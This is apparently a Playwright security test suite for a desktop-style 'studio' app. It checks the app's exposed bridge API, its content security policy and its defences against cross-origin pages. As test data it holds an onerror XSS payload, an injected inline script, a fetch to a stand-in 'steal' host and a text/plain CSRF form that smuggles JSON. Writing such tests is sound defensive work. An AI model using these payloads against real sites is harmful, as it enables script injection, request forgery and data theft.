import { expect, test } from './support/fixtures.js';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { channelNames, eventNames } from '../../shared/ipc/contract.js';
import { subscriptionName } from '../../shared/ipc/studio-api.js';
import { goTo, openStudio } from './support/studio-page.js';

/** A page on another origin (another loopback port) that tries everything a hostile site could. */
let attacker: Server;
let attackerUrl: string;

test.beforeAll(async ({ baseURL }) => {
  const target = baseURL ?? '';
  const page = `<!doctype html><html><body>
<iframe id="framed" src="${target}/"></iframe>
<form id="form" method="POST" action="${target}/bridge/settings.set" enctype="text/plain"><input name='{"theme":"dark","x":"' value='"}'></form>
</body></html>`;
  attacker = createServer((_request, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(page));
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await new Promise((resolve) => attacker.close(resolve));
});

test('window.studio exposes exactly the contract, as functions only', async ({ page }) => {
  await openStudio(page);
  const shape = await page.evaluate(() => {
    const studio = (window as unknown as { studio: Record<string, unknown> }).studio;
    const describe = (value: unknown): unknown =>
      typeof value === 'function' ? 'function' : Object.fromEntries(Object.entries(value as object).map(([key, child]) => [key, describe(child)]));
    return {
      shape: describe(studio),
      frozen: Object.isFrozen(studio),
      replaced: (() => {
        try {
          (window as unknown as { studio: unknown }).studio = {};
        } catch {
          /* strict-mode assignment to a read-only property throws */
        }
        return (window as unknown as { studio: unknown }).studio !== studio;
      })(),
      globals: ['require', 'process', 'ipcRenderer', 'electron', 'module', 'Buffer'].filter((name) => name in window),
    };
  });
  const expected: Record<string, unknown> = {};
  for (const name of channelNames) {
    const [namespace = '', method = ''] = name.split('.');
    expected[namespace] = { ...(expected[namespace] as object), [method]: 'function' };
  }
  for (const name of eventNames) expected[subscriptionName(name)] = 'function';
  expect(shape.shape).toEqual(expected);
  expect(shape.frozen).toBe(true);
  expect(shape.replaced).toBe(false);
  expect(shape.globals).toEqual([]);
});

test('the CSP stops injected inline script, inline handlers and foreign connections', async ({ page }) => {
  await openStudio(page);
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const flags = window as unknown as Record<string, unknown>;
    const host = document.createElement('div');
    host.innerHTML = '<img src="x" onerror="window.__inlineHandler = 1">';
    document.body.append(host);
    const script = document.createElement('script');
    script.textContent = 'window.__inlineScript = 1';
    document.body.append(script);
    const fetched = await fetch('https://example.invalid/steal').then(
      () => 'allowed',
      () => 'blocked',
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { inlineHandler: flags.__inlineHandler, inlineScript: flags.__inlineScript, fetched, violations };
  });
  expect(outcome.inlineHandler).toBeUndefined();
  expect(outcome.inlineScript).toBeUndefined();
  expect(outcome.fetched).toBe('blocked');
  expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
});

test('a page on another origin cannot use the bridge or frame the studio', async ({ page, request, baseURL }) => {
  await page.goto(attackerUrl);
  const attempts = await page.evaluate(async (target) => {
    const body = JSON.stringify({ theme: 'dark' });
    const cors = await fetch(`${target}/bridge/settings.set`, { method: 'POST', headers: { 'Content-Type': 'application/json', 'x-studio-bridge-secret': 'guess' }, body }).then(
      (response) => `status ${response.status}`,
      () => 'blocked',
    );
    const noCors = await fetch(`${target}/bridge/settings.set`, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body }).then(
      (response) => response.type,
      () => 'blocked',
    );
    const readDocument = await fetch(`${target}/`).then(
      (response) => response.text(),
      () => 'blocked',
    );
    return { cors, noCors, readDocument };
  }, baseURL ?? '');
  expect(attempts.cors).toBe('blocked');
  // A no-cors request can reach the server (its answer is hidden, or refused by our CORP header); what matters is
  // that it changed nothing, which the end of this test checks.
  expect(['opaque', 'blocked']).toContain(attempts.noCors);
  expect(attempts.readDocument).toBe('blocked');

  await page.waitForTimeout(500);
  for (const frame of page.frames().filter((candidate) => candidate !== page.mainFrame())) {
    await expect(frame.getByRole('navigation', { name: 'Studio' })).toHaveCount(0);
  }

  await page.locator('#form').evaluate((form: HTMLFormElement) => form.submit());
  await page.waitForLoadState();

  const direct = await request.post('/bridge/settings.set', { data: { theme: 'dark' } });
  expect(direct.status()).toBe(401);

  const studio = await page.context().newPage();
  await openStudio(studio);
  await goTo(studio, 'Settings');
  await expect(studio.getByRole('radio', { name: 'System', exact: true })).toBeChecked();
});
